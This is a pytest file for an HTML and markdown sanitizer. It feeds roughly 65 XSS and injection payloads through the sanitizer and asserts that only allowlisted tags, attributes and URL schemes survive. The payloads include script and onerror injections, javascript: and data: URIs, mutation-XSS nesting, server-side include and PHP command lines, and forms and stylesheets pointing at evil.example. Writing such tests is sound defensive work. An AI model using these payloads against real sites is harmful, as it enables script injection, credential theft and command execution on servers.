"""Nothing in a body runs, loads from elsewhere or leaves its place, whatever its sender puts there."""

from html.parser import HTMLParser

import pytest

from shared.model.items import BodyFormat
from shared.text.markup import body_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\x00>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=x></script>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1)//",
    "<img src=javascript:alert(1)>",
    '<img src="jav&#x09;ascript:alert(1)">',
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src=http://tracker.example/pixel.gif>",
    "<img src=//tracker.example/pixel.gif>",
    "<img src='/\\tracker.example/pixel.gif'>",
    "<img src='\\\\tracker.example/pixel.gif'>",
    "<img src='/a.png' srcset='//evil.example/x 2x'>",
    "<img src='/a.png' style='position:fixed'>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a onmouseover=alert(1)>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password><button>ok</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--#include virtual='/etc/passwd' -->",
    "<!--#exec cmd='id' -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id'); ?>",
    "<p id=content class=masthead name=x>x</p>",
    "</main></article><h1>x</h1>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```\n</code></pre><script>alert(1)</script>\n```",
]

ALLOWED_TAGS = {
    *("p", "div", "blockquote", "pre", "hr", "figure", "figcaption", "details", "summary", "br", "wbr", "span", "a"),
    *("h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "dl", "dt", "dd", "img", "time", "code", "kbd", "samp", "var"),
    *("table", "caption", "colgroup", "col", "thead", "tbody", "tfoot", "tr", "th", "td", "bdi", "bdo", "ruby", "rt"),
    "rp",
    *(
        "b",
        "strong",
        "i",
        "em",
        "u",
        "s",
        "del",
        "ins",
        "small",
        "sub",
        "sup",
        "mark",
        "abbr",
        "cite",
        "q",
        "dfn",
        "rp",
    ),
}
ALLOWED_ATTRIBUTES = {
    *("lang", "dir", "href", "rel", "src", "alt", "width", "height", "loading", "title", "datetime"),
    *("start", "reversed", "scope", "colspan", "rowspan"),
}


class _Tags(HTMLParser):
    """What a browser would make elements of."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.comments: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_pi(self, data: str) -> None:
        self.comments.append(data)


@pytest.mark.parametrize("body_format", ["text", "markdown", "html"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_in_a_body_runs_or_reaches_out(attack: str, body_format: BodyFormat) -> None:
    safe = body_html(attack, body_format)

    tags = _Tags(safe)
    assert tags.comments == []
    for tag, attributes in tags.found:
        assert tag in ALLOWED_TAGS
        assert attributes.keys() <= ALLOWED_ATTRIBUTES
        link, source = attributes.get("href", "/"), attributes.get("src", "/")
        assert link.startswith(("/", "https:", "http:", "mailto:")) or ":" not in link
        assert source.startswith("https:") or (":" not in source and not source.startswith(("//", "/\\")))
    assert body_html(safe, "html") == safe
